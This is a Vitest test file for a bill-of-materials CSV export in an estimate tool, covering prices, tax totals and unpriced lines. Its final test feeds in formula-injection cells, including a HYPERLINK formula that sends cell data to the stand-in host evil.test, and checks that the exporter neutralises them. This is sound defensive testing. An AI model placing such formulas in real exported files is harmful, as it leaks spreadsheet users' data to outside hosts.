import { describe, expect, it } from 'vitest';
import type { EstimateResult } from '../../../shared/schemas/estimate.js';
import { bomCsv } from '../../../api/exports/bom-csv.js';
import { pricedCheckout, readCsv, run } from './estimates.js';

/** Lines as objects by header, up to the first empty row (the totals follow it). */
function readBom(text: string) {
  const [header, ...records] = readCsv(text);
  const end = records.findIndex((r) => r.every((c) => c === ''));
  const lines = (end === -1 ? records : records.slice(0, end)).map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]])));
  const totals = end === -1 ? [] : records.slice(end + 1).map((r) => Object.fromEntries(header.map((h, i) => [h, r[i]])));
  return { header, lines, totals };
}

describe('the bill of materials CSV', () => {
  const checkout = pricedCheckout();

  it('has one row per line with SKU, quantity, unit and the catalog prices, the currency in the price headers', () => {
    const { header, lines } = readBom(bomCsv(checkout));
    expect(header).toEqual(['sku', 'category', 'description', 'quantity', 'unit', 'unit price (EUR)', 'line total (EUR)', 'note']);
    expect(lines).toHaveLength(checkout.bom.length);
    lines.forEach((row, i) => {
      const line = checkout.bom[i];
      expect(row).toMatchObject({ sku: line.sku ?? '', category: line.category, description: line.description, quantity: String(line.quantity), unit: line.unit });
    });
    const strip = lines.find((l) => l.sku === 'HL-S24-10')!;
    expect(strip).toMatchObject({ quantity: '3', unit: 'reel', 'unit price (EUR)': '39', 'line total (EUR)': '117' }); // 3 × 39.00
    const thin = lines.find((l) => l.sku === 'HL-C050')!;
    expect(Number(thin['line total (EUR)'])).toBeCloseTo(Number(thin.quantity) * 0.6, 9); // 23 m × 0.60
    expect(lines.every((l) => l.note === '')).toBe(true); // every line found its item
  });

  it('adds net, tax with its rate, gross and the currency when the estimate is priced', () => {
    const { lines, totals } = readBom(bomCsv(checkout));
    // By hand, from the demo catalog: 3 × 39.00 + 14 × 8.50 + 14 × 0.90 + 46.00 + 3.20 + 119.00 + 2 × 12.50
    // + 9.90 + 23 × 0.60 + 2 × 1.00 + 6 × 0.90 = 472.90 net; 20 % tax = 94.58; gross 567.48.
    expect(lines.map((l) => l.sku)).toEqual(['HL-S24-10', 'HL-A100', 'HL-E02', 'HL-D24-150', 'HL-F06', 'HL-K20', 'HL-M05', 'HL-L01', 'HL-C050', 'HL-C100', 'HL-C3-050']);
    expect(totals.map((t) => [t.description, t['line total (EUR)']])).toEqual([
      ['net', '472.9'],
      ['tax 20 %', '94.58'],
      ['gross', '567.48'],
      ['currency', ''],
    ]);
    expect(totals[3].unit).toBe('EUR');
    expect(totals[0].note).toBe(''); // complete: every line priced
  });

  it('says which lines a catalog could not price and what it lacks for them', () => {
    const partial = pricedCheckout(['HL-F06', 'HL-F10']);
    expect(partial.pricing).toMatchObject({ complete: false, unpricedLines: 1 });
    const { lines, totals } = readBom(bomCsv(partial));
    const fuse = lines.find((l) => l.category === 'fuse')!;
    expect(fuse).toMatchObject({ sku: '', 'unit price (EUR)': '', 'line total (EUR)': '' });
    expect(fuse.note).toContain('missing fuse: ratingA 6.3'); // the 6.3 A fuse the circuit asks for
    // 472.90 − 3.20 for the fuse = 469.70 net.
    expect(totals[0]).toMatchObject({ description: 'net', 'line total (EUR)': '469.7', note: '1 line not priced: totals cover the priced lines only' });
  });

  it('shows a price-free estimate unpriced: no prices, no totals, no currency', () => {
    const plain = run('alderRowTownhouse');
    expect(plain.pricing).toBeUndefined();
    const { header, lines, totals } = readBom(bomCsv(plain));
    expect(header).toEqual(['sku', 'category', 'description', 'quantity', 'unit', 'unit price', 'line total', 'note']);
    expect(lines).toHaveLength(plain.bom.length);
    expect(lines.every((l) => l['unit price'] === '' && l['line total'] === '')).toBe(true);
    expect(totals).toEqual([]);
  });

  it('guards hostile text cells against formula injection, and leaves the numbers alone', () => {
    const hostile: EstimateResult = {
      ...checkout,
      bom: [
        { sku: '+HL-X', category: 'strip', description: '=HYPERLINK("http://evil.test/?d="&A1,"Click")', quantity: 2, unit: 'reel', unitPrice: 10, lineTotal: 20, note: '@SUM(1+1)' },
        { sku: '-HL-Y', category: 'cable', description: '\tTabbed', quantity: 1, unit: 'm', missing: { kind: 'cable', fields: { crossSectionMm2: 0.5 } } },
      ],
    };
    const text = bomCsv(hostile);
    const { lines } = readBom(text);
    expect(lines[0]).toMatchObject({
      sku: "'+HL-X",
      description: `'=HYPERLINK("http://evil.test/?d="&A1,"Click")`,
      note: "'@SUM(1+1)",
      quantity: '2',
      'unit price (EUR)': '10',
      'line total (EUR)': '20',
    });
    expect(lines[1]).toMatchObject({ sku: "'-HL-Y", description: "'\tTabbed", note: 'missing cable: crossSectionMm2 0.5' });
    // No cell of the file starts with a formula character.
    expect(readCsv(text).flat().filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
  });
});
